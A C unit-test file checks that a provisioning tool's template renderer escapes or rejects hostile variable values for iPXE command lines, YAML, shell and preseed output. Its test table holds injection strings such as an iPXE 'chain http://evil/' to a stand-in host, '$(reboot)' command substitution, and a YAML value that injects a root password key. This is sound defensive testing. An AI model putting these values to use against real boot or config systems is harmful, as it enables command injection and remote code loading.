/* Unit tests for the template renderer (src/common/template.c): the
 * syntax, defaults, undefined variables, every escaping kind against
 * hostile values (spaces, quotes, newlines, ${...} and iPXE operators in a
 * value), bounds, and that a failed render never leaves text behind. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <errno.h>
#include <stdio.h>
#include <string.h>

#include "common/template.h"
#include "http/http_parse.h"

static const struct template_var vars[] = {
	{ "name", "web01", NULL },
	{ "domain", "example.org", NULL },
	{ "answers", "http://10.0.0.1:8080/answers/0123abcd/", NULL },
	{ "empty", "", NULL },
	{ "space", "a b", NULL },
	{ "quote", "it's \"x\"", NULL },
	{ "nl", "a\nb", NULL },
	{ "ipxe", "${root-path}", NULL },
	{ "or", "x||reboot", NULL },
	{ "and", "x && chain http://evil/", NULL },
	{ "semi", "x;y", NULL },
	{ "hash", "#x", NULL },
	{ "ctl", "a\x01" "b", NULL },
	{ "utf8", "caf\xc3\xa9", NULL },
	{ "backslash", "a\\b", NULL },
	{ "tmpl", "${name}", NULL },
	{ "dollar_sub", "$(reboot)", NULL },
};
#define NV (sizeof(vars) / sizeof(vars[0]))

static int render(const char *t, enum template_kind k, char *out, size_t len,
		  struct template_error *e)
{
	size_t n;
	int r = template_render(t, strlen(t), k, vars, NV, out, len, &n, e);
	if (r == 0)
		assert_int_equal(n, strlen(out));
	return r;
}

static void expect(const char *t, enum template_kind k, const char *want)
{
	char out[512];
	struct template_error e;
	int r = render(t, k, out, sizeof(out), &e);
	if (r != 0) {
		char why[160];
		template_error_format(&e, why, sizeof(why));
		fail_msg("render of '%s' failed: %s", t, why);
	}
	assert_string_equal(out, want);
}

static void expect_fail(const char *t, enum template_kind k, enum template_status st,
			const char *name)
{
	char out[512];
	struct template_error e;
	memset(out, 'Z', sizeof(out));
	assert_int_equal(render(t, k, out, sizeof(out), &e), st == TEMPLATE_NOSPACE ? -ENOBUFS : -EINVAL);
	assert_int_equal(e.status, st);
	assert_string_equal(out, ""); /* never half-rendered */
	if (name)
		assert_string_equal(e.name, name);
}

static void test_syntax(void **state)
{
	expect("", TEMPLATE_LINE, "");
	expect("plain text", TEMPLATE_LINE, "plain text");
	expect("host=${name}.${domain}", TEMPLATE_LINE, "host=web01.example.org");
	expect("${name}${name}", TEMPLATE_LINE, "web01web01");
	expect("cost $5 and $ alone $", TEMPLATE_LINE, "cost $5 and $ alone $");
	expect("PATH=$${PATH}", TEMPLATE_SHELL, "PATH=${PATH}");
	expect("$$x", TEMPLATE_LINE, "$$x");
	expect("e=[${empty}]", TEMPLATE_LINE, "e=[]");
	/* defaults */
	expect("${missing:-fallback}", TEMPLATE_LINE, "fallback");
	expect("${name:-fallback}", TEMPLATE_LINE, "web01");
	expect("${missing:-}", TEMPLATE_LINE, "");
	expect("${empty:-x}", TEMPLATE_LINE, ""); /* set but empty is set */
	/* a value is never read again as a template */
	expect("${tmpl}", TEMPLATE_LINE, "${name}");
	expect("${tmpl}", TEMPLATE_YAML, "${name}");
	/* syntax errors */
	expect_fail("${", TEMPLATE_LINE, TEMPLATE_SYNTAX, NULL);
	expect_fail("${name", TEMPLATE_LINE, TEMPLATE_SYNTAX, NULL);
	expect_fail("${}", TEMPLATE_LINE, TEMPLATE_SYNTAX, NULL);
	expect_fail("${1x}", TEMPLATE_LINE, TEMPLATE_SYNTAX, NULL);
	expect_fail("${na me}", TEMPLATE_LINE, TEMPLATE_SYNTAX, NULL);
	expect_fail("${name:x}", TEMPLATE_LINE, TEMPLATE_SYNTAX, NULL);
	expect_fail("${name:-a${b}}", TEMPLATE_LINE, TEMPLATE_SYNTAX, NULL); /* no nesting */
	expect_fail("${name:-a{b}", TEMPLATE_LINE, TEMPLATE_SYNTAX, NULL);
	expect_fail("${x:-a\nb}", TEMPLATE_LINE, TEMPLATE_SYNTAX, NULL);
	expect_fail("${$(reboot)}", TEMPLATE_LINE, TEMPLATE_SYNTAX, NULL);
	expect_fail("${name[0]}", TEMPLATE_LINE, TEMPLATE_SYNTAX, NULL);
	expect_fail("${name:?err}", TEMPLATE_LINE, TEMPLATE_SYNTAX, NULL);
	/* a name of 65 characters */
	char t[80] = "${";
	memset(t + 2, 'a', 65);
	strcpy(t + 67, "}");
	expect_fail(t, TEMPLATE_LINE, TEMPLATE_SYNTAX, NULL);
	t[66] = '}';
	t[67] = '\0';
	expect_fail(t, TEMPLATE_LINE, TEMPLATE_UNDEFINED, NULL);
}

static void test_undefined(void **state)
{
	expect_fail("a ${nope} b", TEMPLATE_LINE, TEMPLATE_UNDEFINED, "nope");
	expect_fail("${name} ${Name}", TEMPLATE_CMDLINE, TEMPLATE_UNDEFINED, "Name");
	struct template_error e;
	char out[64], why[128];
	assert_int_equal(render("xx${nope}", TEMPLATE_LINE, out, sizeof(out), &e), -EINVAL);
	assert_int_equal(e.offset, 2);
	template_error_format(&e, why, sizeof(why));
	assert_non_null(strstr(why, "undefined variable 'nope'"));
}

/* A value on a kernel command line inside an iPXE kernel line: one
 * argument, nothing iPXE expands or obeys. */
static void test_cmdline(void **state)
{
	expect("auto=true url=${answers}preseed.cfg hostname=${name}", TEMPLATE_CMDLINE,
	       "auto=true url=http://10.0.0.1:8080/answers/0123abcd/preseed.cfg hostname=web01");
	static const char *const hostile[] = { "space", "quote", "nl", "ipxe", "or", "and",
					       "semi", "hash", "ctl", "utf8", "backslash",
					       "tmpl", "dollar_sub" };
	for (size_t i = 0; i < sizeof(hostile) / sizeof(hostile[0]); i++) {
		char t[80];
		snprintf(t, sizeof(t), "a=${%s}", hostile[i]);
		expect_fail(t, TEMPLATE_CMDLINE, TEMPLATE_UNSAFE, hostile[i]);
	}
	/* a hostile default is refused too */
	expect_fail("a=${missing:-x y}", TEMPLATE_CMDLINE, TEMPLATE_UNSAFE, "missing");
	/* ';' inside one argument is what Ubuntu's ds=nocloud-net;s=URL needs;
	 * alone it would end iPXE's command */
	assert_true(http_cmdline_valid("autoinstall ds=nocloud-net;s=http://x/"));
	assert_false(http_cmdline_valid("a ; reboot"));
	assert_false(http_cmdline_valid("a ;"));
	assert_false(http_cmdline_valid("; a"));
	assert_false(http_cmdline_valid("a;"));
	/* whatever renders passes the iPXE script's own check */
	char out[512];
	assert_int_equal(render("x=${answers} y=${name:-z}", TEMPLATE_CMDLINE, out, sizeof(out), NULL), 0);
	assert_true(http_cmdline_valid(out));
}

static void test_yaml(void **state)
{
	expect("hostname: \"${name}\"", TEMPLATE_YAML, "hostname: \"web01\"");
	expect("v: \"${quote}\"", TEMPLATE_YAML, "v: \"it's \\\"x\\\"\"");
	expect("v: \"${nl}\"", TEMPLATE_YAML, "v: \"a\\nb\"");
	expect("v: \"${ctl}\"", TEMPLATE_YAML, "v: \"a\\x01b\"");
	expect("v: \"${backslash}\"", TEMPLATE_YAML, "v: \"a\\\\b\"");
	expect("v: \"${utf8}\"", TEMPLATE_YAML, "v: \"caf\xc3\xa9\"");
	expect("v: \"${ipxe}\"", TEMPLATE_YAML, "v: \"${root-path}\"");
	/* a value can never close the scalar and start a key of its own */
	static const struct template_var evil[] = { { "x", "\"\nroot: {password: x}\n#", NULL } };
	char out[256];
	assert_int_equal(template_render("k: \"${x}\"\n", 10, TEMPLATE_YAML, evil, 1, out,
					 sizeof(out), NULL, NULL), 0);
	assert_string_equal(out, "k: \"\\\"\\nroot: {password: x}\\n#\"\n");
	assert_ptr_equal(strchr(out, '\n'), out + strlen(out) - 1); /* one line */
}

static void test_shell(void **state)
{
	expect("HOST=${name}", TEMPLATE_SHELL, "HOST='web01'");
	expect("Q=${quote}", TEMPLATE_SHELL, "Q='it'\\''s \"x\"'");
	expect("S=${dollar_sub}", TEMPLATE_SHELL, "S='$(reboot)'");
	expect("E=${empty}", TEMPLATE_SHELL, "E=''");
	expect("N=${nl}", TEMPLATE_SHELL, "N='a\nb'"); /* a newline inside quotes is data */
}

static void test_line(void **state)
{
	expect("d-i netcfg/get_hostname string ${name}", TEMPLATE_LINE,
	       "d-i netcfg/get_hostname string web01");
	expect("x ${space}", TEMPLATE_LINE, "x a b");
	expect_fail("d-i x string ${nl}", TEMPLATE_LINE, TEMPLATE_UNSAFE, "nl");
	expect_fail("d-i x string ${ctl}", TEMPLATE_LINE, TEMPLATE_UNSAFE, "ctl");
	static const struct template_var cr[] = { { "x", "a\rb", NULL }, { "d", "a\x7f", NULL } };
	char out[64];
	struct template_error e;
	assert_int_equal(template_render("${x}", 4, TEMPLATE_LINE, cr, 2, out, sizeof(out), NULL, &e),
			 -EINVAL);
	assert_int_equal(template_render("${d}", 4, TEMPLATE_LINE, cr, 2, out, sizeof(out), NULL, &e),
			 -EINVAL);
}

static void test_bounds(void **state)
{
	char out[8];
	struct template_error e;
	/* exactly fits: 7 characters and the NUL */
	assert_int_equal(render("1234567", TEMPLATE_LINE, out, sizeof(out), &e), 0);
	assert_int_equal(render("12345678", TEMPLATE_LINE, out, sizeof(out), &e), -ENOBUFS);
	assert_int_equal(e.status, TEMPLATE_NOSPACE);
	assert_string_equal(out, "");
	assert_int_equal(render("${domain}", TEMPLATE_LINE, out, sizeof(out), &e), -ENOBUFS);
	assert_string_equal(out, "");
	assert_int_equal(template_render("x", 1, TEMPLATE_LINE, vars, NV, out, 0, NULL, &e), -ENOBUFS);
	/* a template with a NUL inside is text up to len, not beyond */
	assert_int_equal(template_render("a\0${x}", 6, TEMPLATE_LINE, vars, NV, out, sizeof(out), NULL,
					 &e), -EINVAL);
	assert_int_equal(e.status, TEMPLATE_UNDEFINED);
	/* len is respected: "${na" of "${name}" is a syntax error */
	assert_int_equal(template_render("${name}", 4, TEMPLATE_LINE, vars, NV, out, sizeof(out), NULL,
					 &e), -EINVAL);
	assert_int_equal(e.status, TEMPLATE_SYNTAX);
	/* every prefix of a valid template: no crash, and either ok or syntax */
	const char *t = "k=${name:-d} ${domain}$${x}";
	for (size_t n = 0; n <= strlen(t); n++) {
		char o[64];
		int r = template_render(t, n, TEMPLATE_LINE, vars, NV, o, sizeof(o), NULL, &e);
		assert_true(r == 0 || (r == -EINVAL && e.status == TEMPLATE_SYNTAX));
	}
}

static void test_check_skeleton(void **state)
{
	char out[128];
	struct template_error e;
	assert_int_equal(template_check("a ${x} ${y:-z} $${q}", 20, &e), 0);
	assert_int_equal(template_check("a ${x", 5, &e), -EINVAL);
	assert_int_equal(e.status, TEMPLATE_SYNTAX);
	assert_int_equal(template_skeleton("url=${answers}p.cfg n=${n:-q}", 29, out, sizeof(out), &e), 0);
	assert_string_equal(out, "url=p.cfg n=");
	assert_int_equal(template_skeleton("$${x}", 5, out, sizeof(out), &e), 0);
	assert_string_equal(out, "${x}");
	assert_false(http_cmdline_valid(out));
}

static void test_kind_for_file(void **state)
{
	assert_int_equal(template_kind_for_file("ubuntu/user-data"), TEMPLATE_YAML);
	assert_int_equal(template_kind_for_file("meta-data"), TEMPLATE_YAML);
	assert_int_equal(template_kind_for_file("x.yaml"), TEMPLATE_YAML);
	assert_int_equal(template_kind_for_file("a/x.yml"), TEMPLATE_YAML);
	assert_int_equal(template_kind_for_file("post.sh"), TEMPLATE_SHELL);
	assert_int_equal(template_kind_for_file("preseed.cfg"), TEMPLATE_LINE);
	assert_int_equal(template_kind_for_file("rhel.ks"), TEMPLATE_LINE);
	assert_int_equal(template_kind_for_file("user-data.txt"), TEMPLATE_LINE);
	assert_int_equal(template_kind_for_file("yaml"), TEMPLATE_LINE);
	assert_true(template_name_valid("a_1", 3));
	assert_false(template_name_valid("1a", 2));
	assert_false(template_name_valid("a-b", 3));
	assert_false(template_name_valid("", 0));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_syntax),     cmocka_unit_test(test_undefined),
		cmocka_unit_test(test_cmdline),    cmocka_unit_test(test_yaml),
		cmocka_unit_test(test_shell),      cmocka_unit_test(test_line),
		cmocka_unit_test(test_bounds),     cmocka_unit_test(test_check_skeleton),
		cmocka_unit_test(test_kind_for_file),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
